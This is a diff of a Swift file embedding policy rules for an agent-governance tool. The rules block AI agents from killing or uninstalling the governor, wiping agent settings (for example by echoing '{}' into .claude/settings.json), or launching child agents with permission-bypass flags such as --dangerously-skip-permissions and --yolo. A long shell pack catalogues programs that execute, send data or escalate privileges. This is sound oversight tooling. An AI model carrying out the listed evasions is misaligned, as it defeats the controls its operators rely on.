-          ask when command runs "tractatus hook install" with ["--shadow", "--dry", "--force"] and command matches /--["'\\]*dr|--["'\\]*fo|--["'\\]*sh|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs "tractatus hook install" with ["--shadow", "--dry", "--force"]
               because "This changes how the rules are enforced."
           deny when command runs ["pkill", "killall", "kill"] operand matches /tractatus/ and command matches /tract/
               because "This stops what governs the agent."
@@ -742,7 +762,7 @@ enum EmbeddedPacks {
               because "This takes the rules away."
           ask when command matches /\btractatus\s*\(\)|\balias\s+tractatus=|\bfunction\s+tractatus\b|hash\s+-p\s+\S+\s+tractatus/
               because "This puts something else in the place of the rules."
-          ask when command runs ["brew uninstall", "npm uninstall", "npm rm", "cargo uninstall", "apt remove", "apt-get remove", "pip uninstall"] operand matches /tractatus/ and command matches /tract/
+          ask when command runs ["brew uninstall", "npm uninstall", "npm rm", "cargo uninstall", "apt remove", "apt-get remove", "pip uninstall"] operand matches /tractatus/
               because "This takes the rules away."
           example deny  { command: "echo '{}' > .claude/settings.json" } given { project: "/work/app", cwd: "/work/app" }
           example deny  { command: "mv rules/platform.tract /tmp" } given { project: "/work/app", cwd: "/work/app" }
@@ -756,19 +776,19 @@ enum EmbeddedPacks {
 
       sealed rule child_agent "An agent starts no agent without these rules" {
           on bash
-          deny when command runs ["claude", "claude-code"] with ["--dangerously-skip-permissions", "--settings", "--setting-sources", "--bare"] and command matches /--["'\\]*ba|--["'\\]*da|--["'\\]*se|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["claude", "claude-code"] with ["--dangerously-skip-permissions", "--settings", "--setting-sources", "--bare"]
               because "This starts an agent without its rules."
-          deny when command runs ["codex", "codex exec"] with ["--dangerously-bypass-approvals-and-sandbox", "--yolo", "--full-auto"] and command matches /--["'\\]*da|--["'\\]*fu|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["codex", "codex exec"] with ["--dangerously-bypass-approvals-and-sandbox", "--yolo", "--full-auto"]
               because "This starts an agent without its rules."
-          deny when command runs ["gemini", "qwen"] with ["--yolo", "-y", "--approval-mode"] and command matches /[^\w-]-[\w"'\\]*y|--["'\\]*ap|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["gemini", "qwen"] with ["--yolo", "-y", "--approval-mode"]
               because "This starts an agent without its rules."
-          deny when command runs ["aider", "goose", "amp", "opencode", "crush", "droid", "cursor-agent"] with ["--yes", "--yes-always", "--dangerously-allow-all", "--force", "-f", "--skip-permissions-unsafe", "--yolo"] and command matches /[^\w-]-[\w"'\\]*f|--["'\\]*da|--["'\\]*fo|--["'\\]*sk|--["'\\]*ye|--["'\\]*yo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          deny when command runs ["aider", "goose", "amp", "opencode", "crush", "droid", "cursor-agent"] with ["--yes", "--yes-always", "--dangerously-allow-all", "--force", "-f", "--skip-permissions-unsafe", "--yolo"]
               because "This starts an agent without its rules."
-          deny when command runs ["claude-code", "claude"] with "--permission-mode" and command matches /bypass/i
+          deny when command runs ["claude-code", "claude"] with "--permission-mode"
               because "This starts an agent without its rules."
-          ask when command runs ["claude", "claude-code"] with ["-p", "--print", "-c", "--continue", "-r", "--resume"] and command matches /[^\w-]-[\w"'\\]*[cpr]|--["'\\]*co|--["'\\]*pr|--["'\\]*re|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["claude", "claude-code"] with ["-p", "--print", "-c", "--continue", "-r", "--resume"]
               because "This starts another agent, which these rules may not reach."
-          ask when command runs ["codex exec", "gemini", "qwen", "cursor-agent"] with ["-p", "--prompt", "-i"] and command matches /[^\w-]-[\w"'\\]*[ip]|--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/
+          ask when command runs ["codex exec", "gemini", "qwen", "cursor-agent"] with ["-p", "--prompt", "-i"]
               because "This starts another agent, which these rules may not reach."
           ask when command runs ["codex exec", "aider", "goose run", "amp", "opencode run"]
               because "This starts another agent, which these rules may not reach."
@@ -807,7 +827,7 @@ enum EmbeddedPacks {
       """#),
     PackFile(
       "tractatus/shell.tract", package: "tractatus.shell",
-      sha256: "54d7938dbaf40aac846150c15d21b12c40555f080f49b0907cbc42daa3b36bf4",
+      sha256: "05fb058a624fc8bbff33010974b531cce363b08ec8db6d9768425b8be2cd5269",
       #"""
       /// What command-line programs do with their options and operands, and rules against hostile
       /// commands on a shell.
@@ -952,10 +972,15 @@ enum EmbeddedPacks {
           option -exec -execdir takes command until [";", "+"] executes
           option -ok -okdir takes command until [";", "+"] executes
           option -name -iname -path -ipath -wholename -iwholename -lname -ilname takes glob
-          option -regex -iregex -type -xtype -maxdepth -mindepth -mtime -mmin -atime -amin -ctime -cmin -size -user -group -uid -gid -perm -links -inum -newermt -fstype -regextype -used -printf takes text
-          option -newer -anewer -cnewer -samefile -files0-from takes path
+          option -regex -iregex takes text
+          option -mtime -mmin -atime -amin -ctime -cmin -newermt -used takes text
+          option -size takes text
+          option -type -xtype -maxdepth -mindepth -user -group -uid -gid -perm -links -inum -fstype -regextype -printf takes text
+          option -newer -anewer -cnewer takes path
+          option -samefile -files0-from takes path
           option -fprint -fprint0 -fprintf -fls takes path writes
-          flag -print -print0 -ls -prune -quit -empty -depth -mount -xdev -readable -writable -executable -not -and -or -o -a -true -false -follow -daystart -H -L -P
+          flag -empty
+          flag -print -print0 -ls -prune -quit -depth -mount -xdev -readable -writable -executable -not -and -or -o -a -true -false -follow -daystart -H -L -P
       }
       program fd, fdfind {
           reads other operands
@@ -990,7 +1015,7 @@ enum EmbeddedPacks {
       program complete, compgen, compopt { option -C takes command executes  option -F takes text  option -o -A -G -W -P -S -X takes text }
       program enable { option -f takes path executes  flag -a -d -n -p -s }
       program hash { option -p takes path executes  flag -r -l -d -t }
-      program history { flag -c  flag -w  option -d takes text  flag -a -n -r -p -s }
+      program history { flag -c  flag -w  option -d takes text  flag -a  flag -n -r -p -s }
       program fc { option -e takes text executes  flag -s  flag -l -n -r }
       program kill { option -s -n takes text  flag -l -L }
       program cd, pushd, popd { flag -L -P -n -e }
@@ -1015,16 +1040,31 @@ enum EmbeddedPacks {
           flag -l --login -m -p -f -P
       }
       program pkexec { executes operands  escalates  option --user takes text }
-      program gosu, "su-exec", setpriv, capsh { executes other operands  escalates }
+      program gosu, "su-exec" { executes other operands  escalates }
+      program setpriv {
+          executes operands  escalates
+          option --reuid --regid --groups --inh-caps --ambient-caps --bounding-set --securebits --pdeathsig --selinux-label --apparmor-profile takes text
+          flag --clear-groups --keep-groups --init-groups --nnp --no-new-privs --reset-env -d --dump
+      }
+      program capsh { escalates  flag --print }   // What follows `--` goes to a shell: a rule asks.
+      program "sudo-rs", run0, dzdo { executes operands  escalates  option -u --user -g --group takes text }
+      program sudoedit { escalates  writes operands  option -u -g takes text }
       program runuser { executes operands  escalates  option -u -g -G takes text  option -c --command takes command executes  option -s --shell takes path executes  flag -l --login -m -p -P }
       program env {
           executes operands  sets operands
           option -u --unset takes text
           option -C --chdir takes path
-          option -S --split-string takes command executes
+          option -S --split-string takes command executes   // What follows it goes on with it: a rule asks.
           flag -i -v "-" "-0" --ignore-environment --null --debug
       }
-      program nohup, setsid, catchsegv, linux32, linux64, eatmydata, unbuffer, winpty, fakeroot, rlwrap, caffeinate, chronic, "dbus-run-session" { executes operands  flag -c -f -w -d -i -m -s }
+      program nohup, setsid, torsocks, tsocks, torify, proxychains, proxychains4, ifne, catchsegv, linux32, linux64, eatmydata, unbuffer, winpty, fakeroot, rlwrap, caffeinate, chronic, "dbus-run-session" { executes operands  flag -c -f -w -d -i -m -s }
+      program tini { executes operands  option -p -e takes text  flag -s -v -vv -vvv -w -g }
+      program "dumb-init" { executes operands  option -r --rewrite takes text  flag -c --single-child -v --verbose }
+      program catatonit { executes operands  flag -g -P }
+      program runcon { executes other operands  option -u --user -r --role -t --type -l --range takes text for first operand  flag -c --compute }
+      program faketime, setlock, softlimit, setuidgid, "s6-setuidgid", envdir, "s6-envdir", envchain { executes other operands  option -p takes text  flag -f -m -n -N -x -X }
+      program sshpass { executes operands  option -p -d -P takes text  option -f takes path reads  flag -e -v }
+      program chpst { executes operands  option -u -U -b -n -l -L -m -d -o -p -f -c -r -t -s takes text  option -e "-/" -C takes path  flag -v -V -P "-0" "-1" "-2" }
       program timeout, gtimeout { executes other operands  option -s --signal -k --kill-after takes text  flag -v --foreground --preserve-status --verbose }
       program time { executes operands  option -f --format takes text  option -o --output takes path writes  flag -p -v -a -l -h }
       program numactl { executes operands  option -N -m -i -p -C --cpunodebind --membind --interleave --physcpubind takes text }
@@ -1044,9 +1084,22 @@ enum EmbeddedPacks {
       program unshare { executes operands  escalates  option -R --root -w --wd takes path  option -S -G --map-user --map-group --propagation takes text  flag -f -m -u -i -n -p -U -C -T -r -c --fork --mount --pid --user --net --ipc --uts --map-root-user --mount-proc }
       program nsenter { executes operands  escalates  option -t --target takes text  option -r -w takes path  flag -a -m -u -i -n -p -U -C }
       program bwrap, firejail, "systemd-run", "systemd-inhibit", prlimit, cgexec, "start-stop-daemon", daemonize, dtach, abduco, entr { executes operands }
-      program screen { executes operands  option -S -t -c -p -X -s takes text  flag -d -m -r -x -R -D -L -l -q -U }
-      program tmux { option -f takes path executes  option -L -S -c takes text  subcommand "new-session", new { executes operands joined  option -s -n -c -t -x -y -F -e -l -p takes text  flag -d -A -D -P -h -v -b } }
-      program fzf, sk, peco { option --preview takes command executes  option --bind --expect -q --query --height --header --prompt -d --delimiter -n --nth takes text  flag -m -e -i }
+      program screen { executes operands  option -X takes command until [";;"] executes  option -S -t -c -p -s takes text  flag -d -m -r -x -R -D -L -l -q -U }
+      program tmux {
+          option -f takes path executes  option -L -S takes text  option -c takes command executes
+          subcommand "new-session", new, "new-window", neww, "split-window", splitw, "respawn-pane", "respawnp", "respawn-window", "respawnw", "run-shell", run, "pipe-pane", "pipep", "display-popup", popup, "if-shell", "send-keys", send {
+              executes operands joined
+              option -s -n -c -t -x -y -F -e -l -p -b -N -T -w takes text
+              flag -d -A -D -P -h -v -k -E -R -X -H -M -a -C -o -O
+          }
+      }
+      program stuff { executes operands joined }   // `screen -X stuff`
+      program fzf, sk, peco { option --preview takes command executes  option --bind takes text executes  option --expect -q --query --height --header --prompt -d --delimiter -n --nth takes text  flag -m -e -i }
+      program "flatpak-spawn" { executes operands  option --env --directory --forward-fd takes text  flag --host --sandbox --watch-bus --clear-env }
+      program distrobox { subcommand enter { executes other operands  option -n --name -a takes text for first operand  flag -T -nw --no-tty } }
+      program toolbox { subcommand run { executes operands  option -c --container -d --distro -r --release takes text } }
+      program apply { executes operands joined }
+      program "run-parts" { executes first operand }
       program "nix-shell" { option --run --command takes command executes  option -p -A -I --arg takes text }
       program vagrant { subcommand ssh { connects first operand  option -c --command takes command executes } }
       program lxc, incus { subcommand exec { connects first operand  executes other operands  option --cwd --user --env takes text } }
@@ -1062,9 +1115,42 @@ enum EmbeddedPacks {
       program at, batch { executes input  option -f takes path executes  option -t -q takes text  flag -l -r -d -m -v -c }
       program "expect" { executes first operand  option -c takes text executes  option -f takes path executes }
       program script { writes first operand  executes other operands  option -c --command takes command executes  flag -q -a -e -f }
-      program strace, ltrace, dtruss, perf { executes operands  option -o takes path writes  option -e -p -s -u -S -a takes text  flag -f -c -t -T -r -v -y -q }
-      program gdb, lldb { reads operands  option -ex -eval-command --eval-command -iex --init-eval-command -o -O --one-line takes text executes  option -x -command takes path executes  option -p takes text  flag -batch -q -quiet }
-      program valgrind, hyperfine, heaptrack { executes operands }
+      program strace, ltrace, dtruss {
+          executes operands
+          option -o --output takes path writes
+          option -E --env takes text sets
+          option -a -A -b -e -I -l -n -O -p -P -s -S -u -U -X --trace takes text
+          flag -f -ff -F -c -C -D -i -k -L -q -qq -r -t -tt -ttt -T -v -V -w -x -xx -y -yy -z -Z
+      }
+      program perf {
+          option --debugfs-dir --buildid-dir takes path
+          subcommand record, stat, trace, mem, sched, lock, kmem, c2c, ftrace, top {
+              executes operands
+              option -o --output takes path writes
+              option -e --event -F --freq -c --count -p --pid -t --tid -C --cpu -u --uid -m --mmap-pages -r --repeat -d --delay -I --interval-print -G --call-graph takes text
+              flag -a --all-cpus -g -v -q -s -n -i --per-thread
+              subcommand record, report {}
+          }
+          subcommand script { option -s --script takes path executes  option -i --input takes path reads }
+          subcommand report, annotate, diff { option -i --input takes path reads }
+      }
+      program gdb {
+          reads operands
+          flag --args -args executes operands
+          option -ex -eval-command --eval-command -iex --init-eval-command -ix takes text executes
+          option -x -command --command --init-command takes path executes
+          option -p --pid -c --core -d --directory takes text
+          flag -batch --batch -q -quiet --quiet -n
+      }
+      program lldb { reads operands  option -ex -eval-command --eval-command -iex --init-eval-command -o -O --one-line takes text executes  option -x -command takes path executes  option -p takes text  flag -batch -q -quiet }
+      program valgrind, heaptrack { executes operands }
+      program hyperfine {
+          executes first operand joined  executes other operands joined
+          option -p --prepare -s --setup -c --cleanup --conclude takes command executes
+          option --export-json --export-csv --export-markdown --output takes path writes
+          option -w --warmup -r --runs -m --min-runs -M --max-runs -P --parameter-scan -L --parameter-list -n --command-name --style -S --shell takes text
+          flag -N -i --ignore-failure --show-output
+      }
       program open, "xdg-open", start, explorer { executes operands }
 
       program python, python2, python3, "python3.8", "python3.9", "python3.10", "python3.11", "python3.12", "python3.13", "python3.14", pypy, pypy3, ipython {
@@ -1125,7 +1211,8 @@ enum EmbeddedPacks {
           flag -O --remote-name --remote-name-all -J --remote-header-name writes cwd
           option --output-dir takes path writes
           option -T --upload-file takes path sends
-          option -d --data --data-ascii --data-binary --data-urlencode --json takes text sends after "@"
+          option -d --data --data-ascii --data-binary --json takes text sends after "@"
+          option --data-urlencode takes text sends after "@"
           option --data-raw takes text
           option -F --form takes text sends after "=@" sends after "=<"
           option --form-string takes text
@@ -1167,6 +1254,9 @@ enum EmbeddedPacks {
       }
       program socat { executes operands  connects operands  flag -d -u -U -v -x }
       program telnet, rlogin { connects first operand }
+      program rsh, rexec { connects first operand  executes other operands joined  option -l takes text }
+      program pssh, "parallel-ssh", pdsh, clush, dsh, mussh { connects operands  executes operands joined  option -h -H -w -g -l -p -t -o -x takes text  option -i takes text }
+      program adb { option -s -H -P -t takes text  subcommand shell { connects operands  executes operands joined  option -e takes text  flag -n -T -t -x } }
       program openssl {
           subcommand s_client { option -connect -proxy takes host connects  option -servername -CAfile -cert -key takes text }
           option -in -inkey -key -CAfile -CA -CAkey -cert -certfile -config -signkey takes path reads
@@ -1219,10 +1309,18 @@ enum EmbeddedPacks {
       }
       program rclone { subcommand copy { connects operands  reads first operand  sends first operand  writes last operand }     }
       program mail, mailx, sendmail, mutt, msmtp, swaks { option -a -A --attach takes path sends  option -s -c -b -r -S takes text }
-      program age, gpg, gpg2, sops, minisign, signify { reads operands  option -o --output takes path writes  option -r -R --recipient -u -i --keyserver --passphrase --pinentry-mode takes text  option --passphrase-file takes path reads  flag -a -c -d -e -s -b -k -K --encrypt --decrypt --sign --verify --armor --batch --yes --import --export --list-keys --recv-keys --delete-secret-keys --delete-keys  flag --export-secret-keys --export-secret-subkeys }
+      program sops {
+          reads operands
+          option -o --output --config takes path
+          option -k -p --kms --pgp --age --extract --set --input-type --output-type takes text
+          flag -d --decrypt -e --encrypt -i --in-place -r --rotate
+          subcommand "exec-env", "exec-file" { reads first operand  executes other operands joined }
+      }
+      program age, gpg, gpg2, minisign, signify { reads operands  option -o --output takes path writes  option -r -R --recipient -u -i --keyserver --passphrase --pinentry-mode takes text  option --passphrase-file takes path reads  flag -a -c -d -e -s -b -k -K --encrypt --decrypt --sign --verify --armor --batch --yes --import --export --list-keys --recv-keys --delete-secret-keys --delete-keys  flag --export-secret-keys --export-secret-subkeys }
       program "ssh-keygen" { option -f takes path writes  option -t -b -C -N -P -E -R -F -m -O -I -n -V -z takes text  flag -y -l -q -p -e -i -H -K }
       program "ssh-add" { flag -d -D }   // Hands a key to the agent that keeps it; nothing is shown.
-      program "ssh-agent", "ssh-keyscan", "ssh-copy-id" { reads operands }
+      program "ssh-agent" { executes operands  option -a -t takes text  flag -c -s -d -D -k }
+      program "ssh-keyscan", "ssh-copy-id" { reads operands }
 
       // ---- Programs: archives and compressors ----
 
@@ -1258,7 +1356,7 @@ enum EmbeddedPacks {
 
       program git {
           option -C takes path
-          option -c takes text
+          option -c takes text executes   // Settings run programs: a rule tells which do not.
           option --git-dir takes path
           option --work-tree takes path
           option --config-env takes text
@@ -1283,7 +1381,7 @@ enum EmbeddedPacks {
           }
           subcommand fetch { connects first operand  option --upload-pack takes command executes  option --depth --deepen --shallow-since --shallow-exclude --refmap --negotiation-tip -j --jobs -o --server-option takes text  flag -a --all -p --prune -P --prune-tags -t --tags -f --force -k -n -q -v -u --unshallow --dry-run }
           subcommand pull { connects first operand  option --upload-pack takes command executes  option --depth -s --strategy -X --strategy-option --deepen takes text  flag --rebase -r --ff-only --no-ff --ff --no-rebase --autostash -q -v --all -p --prune -t --tags -f --force --squash --no-commit -n --no-edit }
-          subcommand clone { connects first operand  writes other operands  option -u --upload-pack takes command executes  option -b --branch -o --origin --depth -j --jobs --filter --shallow-since --shallow-exclude --reference takes text  option -c --config takes text  option --template --separate-git-dir takes path  flag -q -v -n -l -s --bare --mirror --recursive --recurse-submodules --single-branch --no-checkout --no-tags --sparse --shallow-submodules }
+          subcommand clone { connects first operand  writes other operands  option -u --upload-pack takes command executes  option -b --branch -o --origin --depth -j --jobs --filter --shallow-since --shallow-exclude --reference takes text  option -c --config takes text executes  option --template --separate-git-dir takes path  flag -q -v -n -l -s --bare --mirror --recursive --recurse-submodules --single-branch --no-checkout --no-tags --sparse --shallow-submodules }
           subcommand "ls-remote" { connects first operand  option --upload-pack --exec takes command executes  option --sort -o takes text  flag -h --heads -t --tags -q --refs --get-url --symref --exit-code }
           subcommand "archive" { option --exec takes command executes  option --remote takes text connects  option -o --output takes path writes  option --format --prefix --add-file takes text  flag -l -v }
           subcommand submodule { subcommand foreach { executes operands joined  flag --recursive -q } }
@@ -1292,9 +1390,13 @@ enum EmbeddedPacks {
           subcommand "filter-branch" { option --tree-filter --index-filter --msg-filter --env-filter --commit-filter --tag-name-filter --parent-filter --setup takes command executes  option --subdirectory-filter -d --original takes text  flag -f --force --prune-empty }
           subcommand "filter-repo" { option --path --path-glob --replace-text --mailmap --message-callback --blob-callback --commit-callback --refs takes text  flag --force --invert-paths --analyze --dry-run }
           subcommand grep { reads other operands  option -O --open-files-in-pager takes command executes  option -e takes text for first operand  option -f takes path for first operand reads  option -A -B -C -m --max-depth --threads takes text  flag -n -i -l -L -w -v -c -E -F -G -P -I -h -H -q -r -p -W -o --cached --untracked --no-index --name-only --count }
-          subcommand diff { option --output takes path writes  flag --no-index reads operands  option -G -S --diff-filter -U --stat --word-diff-regex takes text }
-          subcommand log { option --output takes path writes  option -n --since --until --author --grep --format --pretty --date -S -G -L takes text }
-          subcommand show { option --output takes path writes  option --format --pretty --date -S -G takes text }
+          subcommand switch { option -c --create -C --force-create --orphan takes text  flag --discard-changes -f --force  flag -d --detach -m --merge -t --track -q --guess --no-guess }
+          subcommand checkout { option -b -B --orphan --pathspec-from-file --conflict takes text  flag -f --force  flag -p --patch -q -t --track -d --detach -m --merge --ours --theirs -l }
+          subcommand branch { option -u --set-upstream-to --contains --no-contains --merged --no-merged --sort --format --points-at takes text  flag -D  flag -d --delete  flag -m -M --move  flag -c -C --copy  flag -f --force  flag -a --all -r --remotes -l --list -v -vv -q -t --track -i --show-current --unset-upstream }
+          subcommand "ls-files", am, shortlog, "diff-tree" { flag -c }
+          subcommand diff { flag -c  option --output takes path writes  flag --no-index reads operands  option -G -S --diff-filter -U --stat --word-diff-regex takes text }
+          subcommand log { flag -c  option --output takes path writes  option -n --since --until --author --grep --format --pretty --date -S -G -L takes text }
+          subcommand show { flag -c  option --output takes path writes  option --format --pretty --date -S -G takes text }
           subcommand "format-patch" { option -o --output-directory takes path writes }
           subcommand reset { flag --hard  flag --soft --mixed --merge --keep -q -p -N  option --pathspec-from-file takes text }
           subcommand clean { deletes cwd  flag -f --force  flag -n --dry-run  flag -d -x -X -q -i --interactive  option -e --exclude takes text }
@@ -1307,11 +1409,18 @@ enum EmbeddedPacks {
 
       // ---- Programs: packages ----
 
-      program apt, "apt-get", aptitude, "apt-cache", "apt-mark", "apt-key", dpkg, "dpkg-query", "dpkg-deb", rpm, dnf, yum, zypper, pacman, yay, paru, apk, emerge, "nix-env", nix, guix, snap, flatpak, brew, port, choco, winget, scoop, asdf, mise, rtx, pkg, "pkg-config", pkgconf, "update-alternatives", "add-apt-repository", "softwareupdate", mas {
+      program apt, "apt-get", aptitude, "apt-cache", "apt-mark", "apt-key", dpkg, "dpkg-query", "dpkg-deb", rpm, dnf, yum, zypper, pacman, yay, paru, apk, emerge, "nix-env", guix, snap, flatpak, brew, port, choco, winget, scoop, pkg, "pkg-config", pkgconf, "update-alternatives", "add-apt-repository", "softwareupdate", mas {
           option -c takes command executes
           option -o takes text
           option -t takes text
       }
+      program nix {
+          option --option --arg --argstr --override-input takes text
+          subcommand develop, shell { option -c --command takes command until [";;"] executes  option -f --file --profile takes path }
+          subcommand run, build, flake, eval, profile, store, search, fmt, repl {}
+      }
+      program asdf, mise, rtx { subcommand exec, x { executes operands  option -c --command takes command executes } }
+      program apt, "apt-get" { option -o --option takes text executes }
       program pip, pip2, pip3, "pip-compile", "pip-sync", pipenv, pdm, hatch, flit, twine, conda, mamba, micromamba, virtualenv, venv, pyenv, rye, pixi {
           option -r --requirement -c --constraint takes path reads
           option -t --target --prefix --root --cache-dir -d --dest takes path
@@ -1338,22 +1447,52 @@ enum EmbeddedPacks {
       }
       program npm, pnpm, yarn, cnpm {
           option --prefix -C --dir --cwd takes path
-          option -w --workspace --filter -F --registry --tag --omit --include --access --otp --loglevel --script-shell takes text
+          option -w --workspace --filter -F --registry --tag --omit --include --access --otp --loglevel takes text
+          option --script-shell takes path executes
           flag -g --global -D --save-dev --save -s --silent -f --force -y --yes --legacy-peer-deps --production -E --save-exact -P -O -r --recursive -i --if-present --json --frozen-lockfile --ignore-scripts -v -h
           flag --dry-run
+          option "--dry-run=" takes text
           subcommand exec, x, dlx { executes operands  option -c --call takes command executes  option -p --package takes text }
       }
       program npx, pnpx, bunx { executes operands  option -c --call takes command executes  option -p --package -w --workspace takes text  flag -y --yes --no-install --no -q --ignore-existing --bun }
       program nodemon, "ts-node-dev" { executes first operand  option -x --exec takes command executes  option -e --ext -w --watch -i --ignore --delay takes text }
-      program concurrently { option -n --names -c --prefix-colors takes text  flag -k }
+      program concurrently {
+          executes first operand joined  executes other operands joined
+          option -n --names -c --prefix-colors -p --prefix -m --max-processes -s --success takes text
+          flag -k --kill-others --kill-others-on-fail -r --raw
+      }
       program direnv { subcommand exec { executes other operands } }
-      program "cross-env", dotenv, "env-cmd", chamber, "aws-vault", "op", doppler, infisical, "dotenvx" { executes operands  sets operands  option -e -f takes path reads }
-      program nvm, fnm, n, volta, corepack, sdk, rbenv, rvm, jenv, goenv, "rustup", "rustup-init", "ghcup", "swiftly", "swiftenv", "tfenv" {}
+      program "cross-env", "cross-env-shell" { executes operands  sets operands }
+      program dotenv, dotenvx {
+          executes operands  sets operands
+          option -e -f --file --env-file takes path
+          option -q --quote -c -p -v takes text
+          subcommand run { executes operands  option -e --env takes text }
+      }
+      program "env-cmd" { executes operands  option -f --file -e --environments -r --rc-file takes text }
+      program chamber, "aws-vault", envconsul, summon {
+          option -b --backend -n -d --duration -t --mfa-token --region --prompt -f -p takes text
+          subcommand exec { executes other operands }
+      }
+      program "aws-okta", saml2aws { option -p --profile -a takes text  subcommand exec { executes operands } }
+      program op { option --account --vault --session takes text  subcommand run { executes operands  option --env-file --environment takes text  flag --no-masking } }
+      program doppler, infisical, teller, phase {
+          option -p --project -c --config -t --token --env --path --projectId --domain takes text
+          subcommand run { executes operands  option --command takes command executes }
+      }
+      program n, corepack, sdk, "rustup-init", ghcup, swiftly, swiftenv, tfenv {}
+      program nvm, rvm, rustup { subcommand exec, run, do { executes other operands  option --install takes text } }
+      program fnm, volta, rbenv, jenv, goenv, nodenv, plenv, luaenv, phpenv {
+          option --using --node --npm takes text
+          subcommand exec, run, do { executes operands }
+      }
       program cargo {
-          option --manifest-path --target-dir --config -C takes path
+          option --manifest-path --target-dir -C takes path
+          option --config takes text
           option -p --package --bin --example --test --bench --features -F --target -j --jobs --profile --message-format --color --registry --index --vers --version --git --branch --tag --rev --root -Z takes text
           flag -q -v -vv -r --release --all --workspace --all-targets --all-features --no-default-features --locked --offline --frozen --lib --bins --tests --examples --no-run --no-fail-fast --doc -f --force --fix --allow-dirty
           flag --dry-run -n
+          subcommand watch { option -s --shell takes command executes  option -x --exec -w --watch -i --ignore takes text }
       }
       program rustc, rustfmt, "rust-analyzer", "clippy-driver", rustdoc { reads operands  option -o --out-dir takes path writes }
       program go {
@@ -1370,7 +1509,9 @@ enum EmbeddedPacks {
       program bundle { subcommand exec { executes operands } }
       program composer { option -d --working-dir takes path  subcommand exec { executes operands } }
       program mvn, mvnw, gradle, gradlew, ant, sbt, mill, lein, bazel, bazelisk, buck, buck2, pants, please, kotlinc, scalac, javac, javadoc, jlink, spotless { option -f --file -b --build-file -c -p --project-dir -s --settings -g takes path reads  option -P -pl -D -x -I takes text }
-      program mix, rebar3, stack, cabal, opam, dune, esy, nimble, zig, dub, crystal, shards, vcpkg, conan, luarocks, cpan, cpanm, "cpanm_", raco, quicklisp, flutter, dart, pub, melos, fvm, expo, eas, "react-native", ionic, cordova, capacitor {}
+      program stack, cabal, opam { subcommand exec { executes operands  option --package --switch takes text } }
+      program tox { subcommand exec, e { executes operands  option -e --env takes text } }
+      program mix, rebar3, dune, esy, nimble, zig, dub, crystal, shards, vcpkg, conan, luarocks, cpan, cpanm, "cpanm_", raco, quicklisp, flutter, dart, pub, melos, fvm, expo, eas, "react-native", ionic, cordova, capacitor {}
 
       // ---- Programs: building and testing ----
 
@@ -1382,7 +1523,12 @@ enum EmbeddedPacks {
           flag -B -b -d -e -i -k -n -p -q -r -R -s -S -t -v -w --always-make --dry-run --just-print --silent --keep-going
       }
       program just, task, rake, invoke, nox, tox, doit, scons, waf, premake5, xmake, earthly, dagger, gulp, grunt, nx, turbo, lerna, rush, moon, wireit, foreman, overmind, hivemind, honcho, procfile { option -f -F takes path reads  option -j -d takes text }
-      program cmake { option -S -B -C --build --install --prefix takes path  option -P takes path executes  option -G -D -U -T -A --target --config -j --parallel --preset --component takes text  option -E takes text }
+      program cmake { option -S -B -C --build --install --prefix takes path  option -P takes path executes  option -G -D -U -T -A --target --config -j --parallel --preset --component takes text  option -E takes command until [";;"] executes }
+      // The commands of `cmake -E` that change files, by their names there.
+      program copy, copy_if_different, copy_directory, copy_directory_if_different, create_symlink, create_hardlink { reads other operands  writes last operand  option -t takes path writes }
+      program remove, remove_directory { deletes operands  flag -f -r }
+      program make_directory { writes operands }
+      program chdir { executes other operands }
       program ninja, meson, autoconf, automake, autoreconf, autoheader, aclocal, libtool, libtoolize, configure, m4, ctest, cpack, bear, ccache, distcc, b2, qmake, xcodebuild, xcrun, swiftformat, swiftlint, "swift-format", "sourcekit-lsp", plutil, codesign, simctl, agvtool, fastlane, tuist, xcodegen, "xcode-select" { option -C -f takes path  option -j -k -d takes text }
       program swift { option -e takes text executes  option --package-path --scratch-path --build-path takes path  option -c --configuration --filter --target --product --skip -j --jobs -Xswiftc -Xcc -Xlinker takes text }
       program swiftc, clang, "clang++", gcc, "g++", cc, "c++", cpp, ld, as, nasm, yasm, gfortran, gnat, ghc, ocamlc, ocamlopt, nim, dmd, ldc2, fpc, tcc, nvcc, emcc, "clang-format", "clang-tidy", cppcheck, protoc, buf, flatc, thrift, bison, flex, yacc, lex, swig, gperf, sass, lessc, postcss, tailwindcss, esbuild, swc, rollup, webpack, vite, parcel, snowpack, rspack, tsup, unbuild, microbundle, babel, tsc, "vue-tsc", "svelte-check", next, nuxt, astro, gatsby, remix, ng, vue, svelte, ember, "create-react-app", "react-scripts", storybook, "start-storybook", hugo, jekyll, mkdocs, "sphinx-build", doxygen, typedoc, jsdoc, latex, pdflatex, xelatex, lualatex, latexmk, bibtex, biber, tectonic, typst, dot, mmdc, plantuml { option -o --out-file --output takes path writes  option --outDir --out-dir -d takes path }
@@ -1394,7 +1540,8 @@ enum EmbeddedPacks {
           option -H --host takes text
           option -c --context --log-level -l takes text
           option --config --tlscacert --tlscert --tlskey takes path
-          flag -D --debug --tls --tlsverify -v --version
+          flag -D --debug --tls --tlsverify
+          flag -v --version
           subcommand run {
               connects first operand  executes other operands
               option --entrypoint takes text executes
@@ -1435,20 +1582,36 @@ enum EmbeddedPacks {
       }
       program buildah, skopeo, crictl, ctr, crane, oras, cosign, dive, ko, kaniko, lazydocker, colima, minikube, kind, k3d, k3s, multipass, lima, limactl, virsh, "qemu-img", vboxmanage, lxd {}
       program kubectl, oc, k, kubecolor {
-          option -n --namespace --context --cluster --user --as --as-group -s --server --token --request-timeout -v takes text
-          option --kubeconfig --cache-dir --certificate-authority --client-key --client-certificate takes path
+          option -n --namespace takes text
+          option --context takes text
+          option --cluster takes text
+          option --user --as --as-group -s --server --token --request-timeout -v takes text
+          option --kubeconfig takes path
+          option --cache-dir --certificate-authority --client-key --client-certificate takes path
           option -f --filename -k --kustomize takes path reads
           option -o --output -l --selector --field-selector -c --container --sort-by --template --grace-period --timeout --replicas --image --port --type -p --patch --field-manager --tail --since --for --from-literal --from-file -L --overrides --restart takes text
           flag --dry-run
+          option "--dry-run=" takes text executes   // How it is carried out: a rule looks for `client` and `server`.
